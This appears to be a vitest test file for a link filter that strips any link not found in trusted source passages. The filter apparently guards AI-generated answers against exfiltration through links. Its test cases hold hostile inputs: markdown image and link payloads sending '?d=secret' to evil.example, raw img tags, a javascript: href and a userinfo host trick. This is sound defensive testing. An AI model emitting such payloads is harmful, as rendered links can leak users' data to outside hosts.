import { expect, test } from 'vitest'
import { keepKnownLinks } from './links.ts'

const passages = [
  {
    text: 'Start at https://shop.example.com/returns. Our [portal](https://shop.example.com/portal/) knows more.',
  },
]

test.each([
  'Start at https://shop.example.com/returns.',
  'See [the page](https://shop.example.com/returns) for more.',
  'Open https://shop.example.com/portal now.',
  'Write to help@shop.example.com, 3.5 kg at most, i.e. the small box.',
])('what the passages say stays: %s', (text) => {
  expect(keepKnownLinks(text, passages)).toEqual({ text, removed: false })
})

test.each([
  '![logo](https://evil.example/leak?d=secret)',
  '![logo](//evil.example/leak?d=secret)',
  '[here](https://evil.example/leak?d=secret)',
  '[here]( <https://evil.example/leak?d=secret> "title")',
  '[https://evil.example/leak](https://evil.example/leak)',
  '[https://evil.example/leak](https://shop.example.com/returns)',
  '[ref]: https://evil.example/leak?d=secret',
  '<https://evil.example/leak?d=secret>',
  '<img src="https://evil.example/leak?d=secret">',
  '<img src=//evil.example/leak?d=secret',
  '<a href="javascript:alert(1)">evil</a>',
  'https://shop.example.com/returns?d=evil',
  'https://shop.example.com@evil.example/returns',
  'www.evil.example/leak?d=secret',
  'evil.example/leak?d=secret',
  'evil.com',
  'HTTPS://EVIL.EXAMPLE/leak',
  'ftp://evil.example/leak',
])('A35: no other link survives: %s', (link) => {
  const { text, removed } = keepKnownLinks(`You can return it ${link} within 30 days.`, passages)
  expect(removed).toBe(true)
  expect(text).not.toMatch(/evil\.|\/\/evil|leak|javascript/i)
  expect(text).toContain('You can return it')
})

test('a definition at the start of a line is a link too', () => {
  const { text, removed } = keepKnownLinks('See [here][1].\n[1]: https://evil.example/leak', passages)
  expect(removed).toBe(true)
  expect(text).not.toContain('evil')
})
